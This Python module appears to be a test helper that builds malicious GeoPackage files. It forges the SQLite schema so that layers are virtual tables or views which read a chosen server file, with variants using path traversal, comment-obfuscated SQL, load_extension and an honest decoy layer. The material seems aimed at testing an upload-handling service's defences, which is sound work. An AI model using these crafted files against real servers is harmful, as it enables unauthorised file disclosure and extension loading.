"""GeoPackages whose tables are code that reads the files of the server."""

from __future__ import annotations

import sqlite3
from pathlib import Path

import numpy
import shapely
from pyogrio import raw

LAYER = "layer"
#: Name → statements of the schema; `{path}` is a file of the server. `LAYER` is what the GeoPackage
#: says it contains.
SCHEMAS = {
    "text": ["CREATE VIRTUAL TABLE layer USING VirtualText('{path}','UTF-8',0,NONE,NONE,',')"],
    "relative": [
        "CREATE VIRTUAL TABLE layer USING VirtualText('{relative}','UTF-8',0,NONE,NONE,',')"
    ],
    "comment": [
        "create/**/virtual/**/table layer using/**/VirtualText('{path}','UTF-8',0,NONE,NONE,',')"
    ],
    "view": [
        "CREATE VIRTUAL TABLE t USING VirtualText('{path}','UTF-8',0,NONE,NONE,',')",
        "CREATE VIEW layer AS SELECT * FROM t",
    ],
    "geojson": ["CREATE VIRTUAL TABLE layer USING VirtualGeoJSON('{path}')"],
    "workbook": ["CREATE VIRTUAL TABLE layer USING VirtualXL('{path}',0,0)"],
    "shape": ["CREATE VIRTUAL TABLE layer USING VirtualShape('{path}',UTF-8,4326)"],
    "dbf": ["CREATE VIRTUAL TABLE layer USING VirtualDBF('{path}',UTF-8)"],
    "ogr": ["CREATE VIRTUAL TABLE layer USING VirtualOGR('CSV:{path}')"],
    "index": [
        "CREATE VIRTUAL TABLE layer USING VirtualText /* USING rtree( */ ('{path}','UTF-8',0,NONE,NONE,',')"
    ],
    "function": [
        "CREATE VIEW layer AS SELECT BlobFromFile('{path}') AS content, load_extension('{path}')"
    ],
    "loaded": ["CREATE VIEW layer AS SELECT ogr_datasource_load_layers('{path}') AS content"],
    "computed": [
        "CREATE TABLE layer (fid INTEGER PRIMARY KEY, content AS (BlobFromFile('{path}')))"
    ],
    "pixel": [
        "CREATE VIEW layer AS SELECT gdal_get_pixel_value('{path}', 1, 'pixel', 0, 0) AS content"
    ],
}


def made(name: str, target: Path, secret: Path, *, beside: bool = False) -> Path:
    """Write a GeoPackage of `SCHEMAS`.

    Args:
        name: a key of `SCHEMAS`.
        target: file to write.
        secret: file of the server that it tries to read.
        beside: whether it holds an honest layer as well, which comes after.
    """
    target.unlink(missing_ok=True)
    point = shapely.to_wkb(numpy.array([shapely.Point(1, 45)]))
    form = {"driver": "GPKG", "crs": "EPSG:4326", "geometry_type": "Point", "layer": "base"}
    raw.write(target, point, [numpy.array(["honest"])], ["name"], **form)
    database = sqlite3.connect(target)
    database.execute("PRAGMA writable_schema = ON")
    for statement in SCHEMAS[name]:
        filled = statement.format(path=secret, relative=f"../../../../../../../..{secret}")
        kind, called = "table", LAYER
        if " VIEW " in filled:
            kind = "view"
        if " TABLE t " in filled:
            called = "t"
        row = (kind, called, called, filled)
        database.execute(
            "INSERT INTO sqlite_schema (type, name, tbl_name, rootpage, sql) VALUES (?, ?, ?, 0, ?)",
            row,
        )
    if not beside:
        database.execute("DELETE FROM gpkg_geometry_columns")
        database.execute("DELETE FROM gpkg_contents")
    told = (
        "INSERT INTO gpkg_contents (table_name, data_type, identifier) VALUES (?, 'attributes', ?)"
    )
    database.execute(told, (LAYER, LAYER))
    database.commit()
    database.close()
    return target
